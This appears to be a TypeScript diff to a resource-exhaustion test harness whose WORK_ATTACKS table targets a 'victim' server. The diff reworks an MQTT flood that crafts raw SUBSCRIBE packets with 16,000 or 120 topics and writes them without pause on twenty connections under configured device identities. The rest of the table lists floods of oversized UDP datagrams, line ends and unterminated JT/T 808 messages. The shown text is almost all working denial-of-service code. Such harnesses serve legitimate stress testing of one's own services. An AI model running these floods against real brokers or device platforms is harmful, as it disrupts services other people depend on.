@@ -25,7 +25,8 @@ export const WORK_ATTACKS = {
   'datagrams of 64 KB (auto, UDP)': longDatagrams,
   '64 KB of line ends (TCP)': lineEnds,
   'parts of messages without an end (JT/T 808, UDP)': parts,
-  'SUBSCRIBE with 16,000 topics (MQTT)': subscriptions,
+  'SUBSCRIBE with 16,000 topics (MQTT)': (victim, cost, signal) => subscriptions(victim, cost, signal, 16_000),
+  'SUBSCRIBE with 120 topics (MQTT)': (victim, cost, signal) => subscriptions(victim, cost, signal, 120),
 } satisfies Record<string, Attack>
 
 const LONG = 65_000
@@ -153,25 +154,27 @@ async function peers(
   }
 }
 
-/** 64 KB each, on twenty connections of a device that is configured. */
-async function subscriptions({ known, ports }: Victim, cost: Cost, signal: AbortSignal): Promise<void> {
-  const topics = Buffer.alloc(16_000 * 4, Buffer.of(0, 1, 0x61, 0))
-  const body = Buffer.concat([Buffer.of(0, 1), topics])
-  const { length } = body
-  const packet = Buffer.concat([
-    Buffer.of(0x82, (length & 0x7f) | 0x80, ((length >> 7) & 0x7f) | 0x80, length >> 14),
-    body,
-  ])
+/** On twenty connections of devices that are configured, as fast as they are read: one packet, or many that are short. */
+async function subscriptions({ known, ports }: Victim, cost: Cost, signal: AbortSignal, topics: number): Promise<void> {
+  const packet = subscribe(topics)
+  const bytes = Buffer.concat(Array.from({ length: Math.ceil(LONG / packet.length) }, () => packet))
   await sideBySide(20, signal, async (index) => {
     const id = known[index % known.length]
     const socket = dial(ports.mqtt, cost)
     write(socket, mqttConnect(id, '', `subscriber ${index}`), cost)
     await once(socket, 'data', 1000)
-    socket.on('data', (bytes) => (cost.received += bytes.length))
+    socket.on('data', (answer) => (cost.received += answer.length))
     while (!signal.aborted && !socket.destroyed) {
-      if (socket.writableLength < packet.length) write(socket, packet, cost)
+      if (socket.writableLength < bytes.length) write(socket, bytes, cost)
       await sleep(5)
     }
     socket.destroy()
+    await sleep(20)
   })
+}
+
+function subscribe(topics: number): Buffer {
+  const body = Buffer.concat([Buffer.of(0, 1), Buffer.alloc(topics * 4, Buffer.of(0, 1, 0x61, 0))])
+  const { length } = body
+  return Buffer.concat([Buffer.of(0x82, (length & 0x7f) | 0x80, ((length >> 7) & 0x7f) | 0x80, length >> 14), body])
 }
